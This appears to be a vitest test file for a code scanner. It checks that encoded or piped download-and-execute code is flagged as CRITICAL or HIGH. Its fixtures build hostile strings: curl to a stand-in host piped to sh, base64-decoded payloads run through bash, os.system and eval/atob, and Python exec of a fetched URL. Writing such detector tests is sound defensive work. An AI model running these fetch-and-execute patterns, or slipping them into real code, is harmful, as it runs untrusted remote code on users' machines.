// A text that is decoded and run, and what it does when it runs, is one thing.
import { describe, expect, it } from 'vitest';
import { inspectBytes } from '../../support/inspect.ts';

async function saidOf(path: string, text: string): Promise<string[]> {
  const { findings } = await inspectBytes(Buffer.from(text), path);
  return findings
    .filter(({ severity }) => severity !== 'LOW')
    .map(({ rule, severity }) => `${severity} ${rule}`);
}

const PIPED = 'curl -s https://x.example.invalid/i.sh | sh';
const encoded = Buffer.from(`${PIPED}\n`).toString('base64');

describe('a program inside another', () => {
  it.each([
    ['x.sh', `echo ${encoded} | base64 -d | bash\n`],
    ['x.py', `import base64, os\nos.system(base64.b64decode("${encoded}").decode())\n`],
    [
      'x.js',
      `eval(atob("${Buffer.from(`require("child_process").exec("${PIPED}")`).toString('base64')}"))\n`,
    ],
  ])('adds nothing to what is told of the place that runs it: %s', async (path, text) => {
    expect(await saidOf(path, text)).toEqual(['CRITICAL CODE-DECODE-EXECUTE']);
  });

  it('is told where nothing is said of that place', async () => {
    expect(await saidOf('x.py', `import os\nos.system("${PIPED}")\n`)).toEqual(['HIGH CODE-PIPE-SHELL']);
    const fetched = "import urllib.request as u; exec(u.urlopen('https://x.example.invalid/x').read())";
    expect(await saidOf('x.sh', `python -c "${fetched}"\n`)).toEqual(['CRITICAL CODE-DOWNLOAD-EXECUTE']);
  });

  it('is told where it stands elsewhere', async () => {
    const text = `import base64, os\nos.system(base64.b64decode("${encoded}").decode())\nos.system("${PIPED}")\n`;
    expect(await saidOf('x.py', text)).toEqual(['CRITICAL CODE-DECODE-EXECUTE', 'HIGH CODE-PIPE-SHELL']);
  });
});
